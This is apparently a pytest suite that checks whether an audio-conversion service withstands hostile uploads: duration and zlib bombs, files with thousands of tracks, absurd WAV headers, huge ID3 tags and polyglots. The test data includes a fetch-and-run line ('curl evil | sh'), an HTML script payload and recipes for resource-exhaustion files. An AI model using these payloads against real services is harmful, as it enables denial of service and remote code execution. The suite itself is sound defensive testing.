"""Small files that are expensive to convert end soon, with an error or a small result."""

from __future__ import annotations

import struct
import zlib
from random import Random
from typing import TYPE_CHECKING

import pytest

from tests.hostile import bombs, boxes, ebml
from tests.sampling import crossed

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.hostile.victim import Victim

THREE_HOURS_S = 3 * 3600
SMALL = 50_000_000


def noise(size: int, seed: int = 0) -> bytes:
    return Random(seed).randbytes(size)  # noqa: S311  # the same each time


CLAIMED: dict[str, Callable[[], bytes]] = {
    "FLAC, a day of silence": lambda: bombs.flac_silence(bombs.DAY_S),
    "Opus, a day of silence": lambda: bombs.opus_silence(bombs.DAY_S),
    "WAV, one sample a second": lambda: bombs.wav(1, 1, bytes(100_000)),
    "Matroska, ten years": lambda: ebml.matroska(ebml.track(1), ebml.cluster(), seconds=3e8),
}


@pytest.mark.parametrize("name", CLAIMED)
def test_a_bomb_that_states_its_duration_is_not_decoded(victim: Victim, name: str) -> None:
    data = CLAIMED[name]()

    assert (victim.convert(data).code, len(data) < 3_000_000) == ("too_long", True)


def aac_silence(audio: Callable[..., Path]) -> bytes:
    quiet = audio("aac", "-af", "volume=0", "-ar", "8000", "-ac", "1").read_bytes()
    return bombs.first_frame(quiet[-40:][quiet[-40:].find(b"\xff\xf1") :]) * (THREE_HOURS_S * 8)


def mp3_silence(audio: Callable[..., Path]) -> bytes:
    bare = (
        "-af",
        "volume=0",
        "-ar",
        "8000",
        "-ac",
        "1",
        "-b:a",
        "8k",
        "-write_xing",
        "0",
        "-id3v2_version",
        "0",
    )
    return audio("mp3", *bare).read_bytes()[:72] * (THREE_HOURS_S * 14)


ENDLESS: dict[str, Callable[[Callable[..., Path]], bytes]] = {
    "FLAC": lambda _: bombs.flac_silence(bombs.DAY_S, states_length=False),
    "AAC": aac_silence,
    "MP3": mp3_silence,
}


@pytest.mark.parametrize("name", ENDLESS)
def test_a_bomb_without_a_duration_is_stopped_at_the_limit(
    victim: Victim, audio: Callable[..., Path], name: str
) -> None:
    data = ENDLESS[name](audio)
    outcome = victim.convert(data, "mp3")

    assert (outcome.code, outcome.output) == ("too_long", None)


STREAMS: dict[str, Callable[[], bytes]] = {
    "Matroska": lambda: ebml.many_tracks(5000),
    "Matroska, one too many": lambda: ebml.many_tracks(65),
    "Ogg": lambda: bombs.ogg_of_many_streams(3000),
}


@pytest.mark.parametrize("name", STREAMS)
def test_thousands_of_streams_are_too_many(victim: Victim, name: str) -> None:
    assert victim.convert(STREAMS[name]()).code == "too_many_streams"


def test_a_transport_stream_that_lists_thousands_has_an_error(victim: Victim) -> None:
    assert victim.convert(bombs.transport_stream(3000)).code is not None


def test_an_mp4_with_thousands_of_tracks_has_too_many_streams(
    victim: Victim, audio: Callable[..., Path]
) -> None:
    parts = dict(boxes.boxes(audio("m4a").read_bytes()))
    track = boxes.box(b"trak", dict(boxes.boxes(parts[b"moov"]))[b"trak"])
    movie = boxes.box(b"moov", parts[b"moov"] + track * 3000)
    outcome = victim.convert(boxes.box(b"ftyp", parts[b"ftyp"]) + boxes.box(b"mdat", parts[b"mdat"]) + movie)

    assert outcome.code == "too_many_streams"


ABSURD = {
    "no channels": (8000, 0, 16),
    "255 channels": (8000, 255, 16),
    "65535 channels": (8000, 65_535, 8),
    "no sample rate": (0, 1, 16),
    "four billion samples a second": (0xFFFFFFFF, 1, 16),
    "two billion samples a second": (0x7FFFFFFF, 2, 16),
    "no bits": (8000, 1, 0),
    "4096 bits": (8000, 1, 4096),
}


@pytest.mark.parametrize(("name", "form"), crossed(list(ABSURD), ["mp3", "wav"]))
def test_absurd_formats_have_an_error_or_a_small_result(any_victim: Victim, name: str, form: str) -> None:
    rate_hz, channels, bits = ABSURD[name]
    outcome = any_victim.convert(bombs.wav(rate_hz, channels, bytes(200_000), bits), form)

    assert outcome.code is not None or len(outcome.output or b"") < SMALL


def test_an_index_of_two_billion_samples_has_a_small_result(
    victim: Victim, audio: Callable[..., Path]
) -> None:
    many = bombs.sample_sizes(0x7FFFFFFF)
    outcome = victim.convert(boxes.changed(audio("m4a").read_bytes(), b"stsz", lambda _: many))

    assert outcome.output is None or len(outcome.output) < SMALL


def test_a_compressed_movie_header_is_not_decompressed_without_limit(victim: Victim) -> None:
    packed = struct.pack(">I", 0x7FFFFFF0) + zlib.compress(bytes(20_000_000), 9)
    movie = boxes.box(b"cmov", boxes.box(b"dcom", b"zlib") + boxes.box(b"cmvd", packed))
    outcome = victim.convert(boxes.box(b"ftyp", b"qt  \0\0\0\0qt  ") + boxes.box(b"moov", movie))

    assert outcome.code in {"not_audio", "no_audio_stream"}


def test_compressed_blocks_are_not_decompressed_without_limit(victim: Victim) -> None:
    outcome = victim.convert(ebml.zlib_bomb(9_000_000), "mp3")

    assert outcome.code != "timed_out"
    assert outcome.output is None or len(outcome.output) < SMALL


def test_thousands_of_nested_elements_are_skipped(victim: Victim) -> None:
    assert victim.convert(ebml.nested(5000)).code is None


def vorbis_comments(count: int) -> bytes:
    pairs = b"".join(struct.pack("<I", 9) + b"%07d=x" % n for n in range(count))
    block = struct.pack("<I", 0) + struct.pack("<I", count) + pairs
    return b"\4" + len(block).to_bytes(3) + block


TAGS: dict[str, Callable[[], bytes]] = {
    "a thousand texts": lambda: bombs.id3_tag(
        b"".join(bombs.id3_frame(b"TXXX", b"\0%d\0x" % n) for n in range(1000))
    ),
    "a text of ten million letters": lambda: bombs.id3_tag(
        bombs.id3_frame(b"TIT2", b"\0" + b"a" * 10_000_000)
    ),
    "ten thousand chapters": lambda: bombs.id3_chapters(10_000),
    "a cover of ten million bytes": lambda: bombs.id3_tag(
        bombs.id3_frame(b"APIC", b"\0image/jpeg\0\3\0\xff\xd8" + noise(10_000_000))
    ),
    "a cover of sixteen gigapixels": lambda: bombs.id3_tag(
        bombs.id3_frame(b"APIC", b"\0image/png\0\3\0" + bombs.png_of(131_072, 131_072))
    ),
    "a thousand covers": lambda: bombs.id3_tag(
        bombs.id3_frame(b"APIC", b"\0image/png\0\3\0" + bombs.png_of(9, 9)) * 1000
    ),
    "texts of noise": lambda: bombs.id3_tag(
        b"".join(bombs.id3_frame(b"TXXX", bytes([n % 4]) + noise(99, n)) for n in range(99))
    ),
    "a tag within a tag": lambda: bombs.id3_tag(b"ID3\3\0\0\0\0\x7f\x7f" * 1000),
}


@pytest.mark.parametrize(("name", "form"), crossed(list(TAGS), ["flac", "mp3"]))
def test_gigantic_tags_have_an_error_or_fit_into_a_document(
    any_victim: Victim, audio: Callable[..., Path], name: str, form: str
) -> None:
    song = audio("mp3", "-id3v2_version", "0").read_bytes()
    outcome = any_victim.convert(TAGS[name]() + song, form)
    probe = outcome.task.source.probe

    assert outcome.code is not None or (probe is not None and len(repr(probe)) < 500_000)


def test_a_hundred_thousand_comments_time_out(any_victim: Victim, audio: Callable[..., Path]) -> None:
    """For each of them, ffmpeg searches all of them."""
    data = audio("flac").read_bytes()
    outcome = any_victim.convert(data[:42] + vorbis_comments(100_000) + data[42:], "ogg")

    assert outcome.code == "timed_out"


OTHER_FILES: dict[str, bytes] = {
    "ZIP": b"PK\3\4\x14\0\0\0\0\0" + bytes(20) + b"song.mp3" + b"x" * 5000,
    "PDF": b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\n" + b"%filler\n" * 900,
    "EXE": b"MZ\x90\0\3\0\0\0" + bytes(52) + b"\x80\0\0\0" + b"PE\0\0" + bytes(5000),
    "ELF": b"\x7fELF\2\1\1" + bytes(5000),
    "HTML": b"<!doctype html><script>alert(1)</script>" * 200,
    "shell script": b"#!/bin/sh\ncurl evil | sh\n" * 200,
    "GZIP": b"\x1f\x8b\x08\0" + zlib.compress(bytes(9_000_000)),
    "SQLite": b"SQLite format 3\0" + bytes(8000),
    "GIF": b"GIF89a\1\0\1\0\x80\0\0" + bytes(5000) + b";",
    "JPEG": b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0" + bytes(5000) + b"\xff\xd9",
    "TAR": b"song.mp3".ljust(257, b"\0") + b"ustar\0" + bytes(5000),
    "zeros": bytes(100_000),
    "ones": b"\xff" * 100_000,
    "noise": noise(100_000),
    "one byte": b"\0",
}


@pytest.mark.parametrize("name", OTHER_FILES)
def test_other_kinds_of_files_are_refused(any_victim: Victim, name: str) -> None:
    outcome = any_victim.convert(OTHER_FILES[name])

    assert outcome.code is not None
    assert outcome.output is None


@pytest.mark.parametrize("head", ["ZIP", "PDF", "GIF", "HTML"])
def test_a_polyglot_has_its_audio_or_an_error(
    any_victim: Victim, audio: Callable[..., Path], head: str
) -> None:
    outcome = any_victim.convert(OTHER_FILES[head] + audio("mp3").read_bytes(), "wav")

    assert (outcome.output or b"RIFF")[:4] == b"RIFF"
